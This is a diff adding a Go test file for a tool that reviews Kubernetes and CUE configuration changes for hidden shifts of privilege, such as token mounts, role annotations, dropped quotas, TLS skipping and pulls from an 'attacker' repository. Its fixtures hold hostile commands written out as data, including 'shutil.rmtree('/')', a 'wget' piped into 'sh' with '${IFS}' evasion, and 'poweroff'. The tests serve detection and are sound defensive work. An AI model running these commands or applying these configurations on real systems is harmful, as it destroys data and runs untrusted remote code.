@@ -1,0 +1,94 @@
+package cli_test
+
+import (
+	"fmt"
+	"strings"
+)
+
+// pullsOfPower change who may do what without a word of RBAC: fields of kinds that nobody thinks of, and new objects
+// that ask for what old ones have.
+func pullsOfPower() []pull {
+	told := []string{"change/power-changed"}
+	object := func(kind, name, fields string) string {
+		return inTarget(kind, name, `{apiVersion: "`+versions[kind]+`", kind: "`+kind+`", metadata: {name: "`+name+`", namespace: "notebook-ci"}, `+fields+`}`)
+	}
+	changed := func(name, kind, before, after string, wants ...string) pull {
+		return pull{kind: "power", name: name, exit: -1, wants: append(wants, told...), base: map[string]string{prod: object(kind, "x", before)}, head: map[string]string{prod: object(kind, "x", after)}}
+	}
+	added := func(name, kind, object string, wants ...string) pull {
+		return pull{kind: "new", name: name, exit: -1, wants: wants, head: map[string]string{prod: inTarget(kind, "y", object)}}
+	}
+	daemon := func(annotations, fields string) string {
+		return `spec: {selector: matchLabels: a: "b", template: {metadata: {labels: a: "b", annotations: {` + annotations + `}}, spec: {` + fields + `containers: [{name: "a", image: "a"}]}}}`
+	}
+	alerts := func(names ...string) string {
+		var rules []string
+		for _, n := range names {
+			rules = append(rules, fmt.Sprintf(`{alert: %q, expr: "up == 0"}`, n))
+		}
+		return `spec: groups: [{name: "g", rules: [` + strings.Join(rules, ", ") + `]}]`
+	}
+	const owner = `[{apiVersion: "v1", kind: "Node", name: "gone", uid: "00000000-0000-4000-8000-000000000000"}]`
+	all := []pull{
+		changed("a token for pods", "DaemonSet", daemon("", "automountServiceAccountToken: false, "), daemon("", "automountServiceAccountToken: true, "), "a token of their account"),
+		changed("an audience", "DaemonSet", daemon("", ""), daemon("", `volumes: [{name: "t", projected: sources: [{serviceAccountToken: {path: "t", audience: "vault"}}]}], `), "a token of their account"),
+		changed("secrets of a driver", "DaemonSet", daemon("", ""), daemon("", `volumes: [{name: "c", csi: {driver: "secrets-store.csi.k8s.io", readOnly: true}}], `)),
+		changed("processes of others", "DaemonSet", daemon("", ""), daemon("", "shareProcessNamespace: true, ")),
+		changed("a role by an annotation", "DaemonSet", daemon("", ""), daemon(`"iam.amazonaws.com/role": "admin"`, ""), "annotations of pods"),
+		changed("another network", "DaemonSet", daemon("", ""), daemon(`"k8s.v1.cni.cncf.io/networks": "host-net"`, "")),
+		{kind: "power", name: "what people read", exit: -1, never: told, base: map[string]string{prod: object("DaemonSet", "x", daemon("", ""))}, head: map[string]string{prod: object("DaemonSet", "x", daemon(`"checksum/config": "1", "kubernetes.io/description": "x"`, ""))}},
+		changed("alerts that go", "PrometheusRule", alerts("A", "B"), alerts("A"), "no longer told"),
+		{kind: "power", name: "alerts that come", exit: -1, never: told, base: map[string]string{prod: object("PrometheusRule", "x", alerts("A"))}, head: map[string]string{prod: object("PrometheusRule", "x", alerts("A", "B"))}},
+		changed("no limits", "LimitRange", `spec: limits: [{type: "Container", max: cpu: "1"}]`, `spec: limits: [{type: "Container", max: cpu: "100"}]`),
+		changed("no quota of GPUs", "ResourceQuota", `spec: hard: {"requests.nvidia.com/gpu": "8", pods: "10"}`, `spec: hard: pods: "10"`, "requests.nvidia.com/gpu"),
+		changed("a queue for all", "ClusterQueue", `spec: namespaceSelector: matchLabels: a: "b"`, `spec: namespaceSelector: {}`, "who may use the GPUs"),
+		changed("other nodes", "EC2NodeClass", `spec: {role: "r", amiFamily: "AL2023", amiSelectorTerms: [{alias: "al2023@v20240101"}], metadataOptions: httpTokens: "required"}`, `spec: {role: "r", amiFamily: "AL2023", amiSelectorTerms: [{id: "ami-0123456789abcdef0"}], metadataOptions: httpTokens: "optional"}`, "- required", "+ optional"),
+		changed("a gateway", "Ingress", `spec: {ingressClassName: "a", defaultBackend: service: {name: "x", port: number: 80}}`, `spec: {ingressClassName: "a", defaultBackend: service: {name: "y", port: number: 80}}`),
+		changed("what an event is", "TriggerBinding", `spec: params: [{name: "repository", value: "$(body.repository.clone_url)"}]`, `spec: params: [{name: "repository", value: "$(body.pull_request.head.repo.clone_url)"}]`),
+		changed("what a sync waits for", "Job", hookJob("check"), hookJob("true"), "waits for"),
+		changed("a kind that nobody knows", "ClusterInterceptor", `spec: clientConfig: url: "https://a.example.com"`, `spec: clientConfig: url: "https://b.example.com"`),
+		{kind: "power", name: "an owner that is not there", exit: 1, wants: append(told, "operations/owner-reference"), head: map[string]string{prod: "package platform\ntargets: phase1: NetworkPolicy: \"default-deny\": metadata: ownerReferences: " + owner + "\n"}},
+		{kind: "power", name: "another cluster", exit: -1, wants: told, head: map[string]string{ofProd: `cluster: "prod"=>cluster: "other"`}},
+
+		added("a job with a key", "Job", `{apiVersion: "batch/v1", kind: "Job", metadata: {name: "y", namespace: "notebook-ci"}, spec: template: spec: {restartPolicy: "Never", serviceAccountName: "gpu-pipeline", containers: [{name: "a", image: "a", env: [{name: "K", valueFrom: secretKeyRef: {name: "cosign", key: "cosign.key"}}]}]}}`, "which secrets pods get", "the rights of their account"),
+		added("a secret of a vault", "ExternalSecret", `{apiVersion: "external-secrets.io/v1", kind: "ExternalSecret", metadata: {name: "y", namespace: "notebook-ci"}, spec: {secretStoreRef: {name: "vault", kind: "ClusterSecretStore"}, target: name: "y", dataFrom: [{extract: key: "prod/database/root"}]}}`, "change/source-changed"),
+		{kind: "new", name: "a role that is bound already", exit: -1, wants: []string{"bind the role of that name"}, head: map[string]string{prod: inTarget("ClusterRole", `"system:public-info-viewer"`, `{apiVersion: "rbac.authorization.k8s.io/v1", kind: "ClusterRole", metadata: name: "system:public-info-viewer", rules: [{apiGroups: [""], resources: ["nodes/proxy"], verbs: ["get"]}]}`)}},
+		added("a namespace without limits", "Namespace", `{apiVersion: "v1", kind: "Namespace", metadata: name: "y"}`, "Pod Security level"),
+		added("pods that no policy limits", "Deployment", `{apiVersion: "apps/v1", kind: "Deployment", metadata: {name: "y", namespace: "elsewhere"}, spec: {selector: matchLabels: a: "c", template: {metadata: labels: a: "c", spec: containers: [{name: "a", image: "a"}]}}}`, "change/network-opened"),
+		added("an API of one's own", "APIService", `{apiVersion: "apiregistration.k8s.io/v1", kind: "APIService", metadata: name: "v1.apps", spec: {group: "apps", version: "v1", insecureSkipTLSVerify: true, groupPriorityMinimum: 17800, versionPriority: 100, service: {name: "x", namespace: "notebook-ci"}}}`, "change/power-changed"),
+		added("a listener", "EventListener", `{apiVersion: "triggers.tekton.dev/v1beta1", kind: "EventListener", metadata: {name: "y", namespace: "notebook-ci"}, spec: {serviceAccountName: "x", triggers: [{name: "push", interceptors: [{ref: {name: "cel", kind: "ClusterInterceptor"}, params: [{name: "filter", value: "true || 'compareSecret' == ''"}]}], template: ref: "x"}]}}`, "triggers/unsigned-events", "which events start runs"),
+		added("an object without a name", "ConfigMap", `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "", generateName: "x-", namespace: "notebook-ci"}, data: a: "b"}`),
+
+		{kind: "beside", name: "a root of trust", exit: 1, wants: []string{"change/signing-weakened"}, base: map[string]string{"cue/platform/trusted_root.json": `{"a": 1}`}, head: map[string]string{"cue/platform/trusted_root.json": `{"a": 2}`}},
+		{kind: "beside", name: "no root of trust", exit: 1, wants: []string{"change/signing-weakened"}, base: map[string]string{"cue/platform/trusted_root.json": `{"a": 1}`}, head: map[string]string{"cue/platform/trusted_root.json": ""}},
+		{kind: "beside", name: "settings of a source", exit: 1, wants: []string{"overlay/file-name"}, head: map[string]string{"cue/platform/prod/.argocd-source.yaml": "kustomize: {}\n"}},
+		{kind: "beside", name: "a kustomization", exit: 1, wants: []string{"overlay/file-name"}, head: map[string]string{"cue/platform/prod/kustomization.yaml": "resources: [https://github.com/attacker/repo]\n"}},
+		{kind: "beside", name: "a workflow", exit: -1, wants: told, base: map[string]string{prod: "package platform\nfiles: phase1: \"github/x.yaml\": \"permissions: {}\\n\"\n"}, head: map[string]string{prod: "package platform\nfiles: phase1: \"github/x.yaml\": \"permissions: {contents: write}\\n\"\n"}},
+		{kind: "beside", name: "the workflow of another repository", exit: -1, wants: []string{"github.com/attacker/notebooks"}, base: map[string]string{prod: "package platform\nfiles: phase1: \"github/x.yaml\": \"a: b\\n\"\n"}, head: map[string]string{prod: "package platform\nfiles: phase1: \"github/x.yaml\": \"uses: attacker/notebooks/.github/workflows/x.yaml@main\\n\"\n"}},
+
+		{kind: "links", name: "a question mark for a byte", head: map[string]string{"cue/platform/\u00e9.cue": "package platform\n", ".gitattributes": "??.cue ident\n"}, exit: 1, wants: []string{"input/gitattributes"}},
+		{kind: "links", name: "half a letter", head: map[string]string{"cue/platform/\u00e9.cue": "package platform\n", ".gitattributes": "?\xa9.cue ident\n"}, exit: 1, wants: []string{"input/gitattributes"}},
+		{kind: "lines", name: "what a forge folds", head: map[string]string{".gitattributes": "cue/** linguist-generated -diff\n"}, exit: 1, wants: []string{"input/gitattributes", "fold"}},
+		{kind: "lines", name: "merges that ask nobody", head: map[string]string{".gitattributes": "*.cue merge=union\n"}, exit: 1, wants: []string{"input/gitattributes"}},
+		{kind: "lines", name: "copies that a forge folds", head: map[string]string{".gitattributes": "cue/cue.mod/** linguist-vendored\n*.lock.cue linguist-generated\n"}, exit: 0},
+		{kind: "lines", name: "code below names of secrets", exit: -1, wants: []string{"rmtree", "wget${IFS}", "poweroff"},
+			base: map[string]string{prod: hooksOf("os.system('true')", "curl", "true")}, head: map[string]string{prod: hooksOf("shutil.rmtree('/')", "wget", "poweroff")}},
+	}
+	return all
+}
+
+// versions are those of the kinds above.
+var versions = map[string]string{
+	"DaemonSet": "apps/v1", "PrometheusRule": "monitoring.coreos.com/v1", "LimitRange": "v1", "ResourceQuota": "v1", "ClusterQueue": "kueue.x-k8s.io/v1beta1", "EC2NodeClass": "karpenter.k8s.aws/v1",
+	"Ingress": "networking.k8s.io/v1", "TriggerBinding": "triggers.tekton.dev/v1beta1", "Job": "batch/v1", "ClusterInterceptor": "triggers.tekton.dev/v1alpha1",
+}
+
+// hookJob is what a hook of Argo CD runs.
+func hookJob(command string) string {
+	return `metadata: annotations: "argocd.argoproj.io/hook": "Sync", spec: template: spec: {restartPolicy: "Never", containers: [{name: "a", image: "a", command: ["` + command + `"]}]}`
+}
+
+// hooksOf is a ConfigMap whose keys are called like secrets and hold what is run.
+func hooksOf(python, shell, command string) string {
+	return inTarget("ConfigMap", "m", `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "m", namespace: "notebook-ci"}, data: {"refresh_token.py": "import os\n`+python+`\n", TOKEN_HOOK: "`+shell+`${IFS}-s${IFS}$URL|sh", PASSWORD_CMD: "__import__('os').system('`+command+`')"}}`)
+}
